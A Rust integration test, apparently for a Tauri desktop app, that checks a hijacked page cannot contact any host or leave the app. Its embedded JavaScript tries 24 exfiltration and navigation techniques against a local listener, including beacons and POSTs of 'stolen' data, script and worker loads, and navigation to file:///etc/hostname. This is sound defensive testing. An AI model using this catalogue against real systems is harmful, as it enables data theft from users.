//! A page that somebody took over reaches no host: whatever it tries, the window stays with us and nothing is asked.

mod desktop;

use desktop::{Desktop, PLAIN, id};
use serde_json::json;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::mpsc;
use std::time::Duration;

/// What a page can do to reach an address.
const TRIES: &str = r#"
const url = arguments[0];
const add = (name, attributes, to = document.body) => {
  const element = Object.assign(document.createElement(name), attributes);
  to.append(element);
  return element;
};
const tries = [
  () => fetch(url + "fetch", { mode: "no-cors" }).catch(() => {}),
  () => navigator.sendBeacon(url + "beacon", "stolen"),
  () => new WebSocket(url.replace("http", "ws") + "socket"),
  () => new EventSource(url + "events"),
  () => { const request = new XMLHttpRequest(); request.open("POST", url + "request"); request.send("stolen"); },
  () => { new Image().src = url + "image"; },
  () => add("script", { src: url + "script" }),
  () => add("iframe", { src: url + "frame" }),
  () => add("object", { data: url + "object" }),
  () => add("video", { src: url + "video" }),
  () => add("link", { rel: "stylesheet", href: url + "style" }, document.head),
  () => add("link", { rel: "prefetch", href: url + "prefetch" }, document.head),
  () => add("link", { rel: "preconnect", href: url }, document.head),
  () => add("link", { rel: "dns-prefetch", href: url }, document.head),
  () => { document.body.style.backgroundImage = `url(${url}background)`; },
  () => new Worker(url + "worker"),
  () => { const form = add("form", { action: url + "form", method: "post" }); form.submit(); },
  () => add("a", { href: url + "link", target: "_blank" }).click(),
  () => add("a", { href: url + "ping", ping: url + "pinged" }).click(),
  () => window.open(url + "window"),
  () => add("meta", { httpEquiv: "refresh", content: "0;url=" + url + "meta" }, document.head),
  () => { location.href = url + "location"; },
  () => { location.assign("file:///etc/hostname"); },
  () => { top.location.replace(url + "top"); },
];
for (const attempt of tries) { try { attempt(); } catch { /* refused */ } }
return tries.length;
"#;

#[tokio::test]
async fn a_page_that_was_taken_over_reaches_no_host() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("it has one").port();
    let (tell, heard) = mpsc::channel();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            drop(stream.set_read_timeout(Some(Duration::from_millis(500))));
            let mut start = [0; 200];
            let n = stream.read(&mut start).unwrap_or(0);
            drop(tell.send(String::from_utf8_lossy(&start[..n]).into_owned()));
        }
    });
    // Who listens hears: what follows is silence and no deafness.
    let mut control = TcpStream::connect(("127.0.0.1", port)).expect("it listens");
    drop(control.write_all(b"GET / HTTP/1.0\r\n\r\n"));
    let control = heard.recv_timeout(Duration::from_secs(10)).expect("it heard");
    assert!(control.starts_with("GET / "), "{control}");

    let desktop = Desktop::start_as(PLAIN).await;
    let window = desktop.open::<&str>(&[]).await;
    window.wait_for(&id("drop-zone")).await;
    let url = format!("http://127.0.0.1:{port}/");
    let tried = window.script(TRIES, vec![json!(url)]).await;
    assert_eq!(tried, 24);
    tokio::time::sleep(Duration::from_secs(3)).await;
    let asked: Vec<String> = heard.try_iter().collect();
    assert!(asked.is_empty(), "asked: {asked:#?}");
    let place = window.script("return location.href", Vec::new()).await;
    assert!(
        place
            .as_str()
            .is_some_and(|place| place.starts_with("tauri://localhost")),
        "{place}"
    );
    window.wait_for(&id("drop-zone")).await;
    window.end().await;
}
